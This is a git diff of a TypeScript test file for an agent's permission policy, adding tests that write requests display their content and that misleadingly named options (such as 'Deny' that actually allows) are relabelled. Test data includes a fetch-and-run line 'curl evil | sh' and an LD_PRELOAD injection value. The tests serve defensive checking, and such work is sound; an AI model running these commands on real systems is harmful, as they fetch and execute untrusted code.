@@ -3,7 +3,14 @@ import { sampleMeta } from '../../../test/agh/sample-meta.ts'
 import type { EventRow, EventType } from '../../contract/agh/events.ts'
 import { readInput } from '../permission/read-input.ts'
 import { deriveHealth } from './session/derive-health.ts'
-import { chooseOption, judgeAction, judgeTool, modeFor, questionAbout } from './session/permission-policy.ts'
+import {
+  chooseOption,
+  judgeAction,
+  judgeTool,
+  modeFor,
+  optionLabel,
+  questionAbout,
+} from './session/permission-policy.ts'
 import { eventTypeOf } from './transcript/read-update.ts'
 import { buildTranscript, recapText } from './transcript/transcript.ts'
 
@@ -49,6 +56,28 @@ describe('the permission policy', () => {
     const { input } = readInput(title, toolCall)
     expect(input).toMatchObject({ kind: 'command', text: "ls 'a b'" })
     expect(JSON.parse(input!.rest!)).toEqual({ env: { LD_PRELOAD: 'x.so' }, cwd: '/code' })
+  })
+
+  it('asks about a write with what is written, and says when that is not all', () => {
+    const ask = (content: string) => {
+      const { title, toolCall } = questionAbout({ name: 'write_file', path: '/code/a.sh', content })
+      return readInput(title, toolCall)
+    }
+    expect(ask('curl evil | sh\n').input).toMatchObject({ kind: 'path', text: '/code/a.sh' })
+    expect(JSON.parse(ask('curl evil | sh\n').input!.rest!)).toEqual({ content: 'curl evil | sh\n' })
+    expect(ask('x'.repeat(1_000_000))).toMatchObject({ input_cut: true })
+  })
+
+  it.each([
+    ['Allow', 'allow_once', 'Allow'],
+    ['Yes, and do not ask again', 'allow_always', 'Yes, and do not ask again (allows it from now on)'],
+    ['Deny', 'allow_once', 'Deny (allows it)'],
+    ['Cancel', 'allow_always', 'Cancel (allows it from now on)'],
+    ['Reject', 'reject_once', 'Reject'],
+    ['Allow', 'reject_once', 'Allow (rejects it)'],
+    ['Ship it', 'allow_once', 'Ship it (allows it)'],
+  ])('an option called %s of the kind %s is shown as %s', (name, kind, label) => {
+    expect(optionLabel({ name, kind })).toBe(label)
   })
 
   it('S4.113 starts dream sessions with approve-all, whatever is configured', () => {
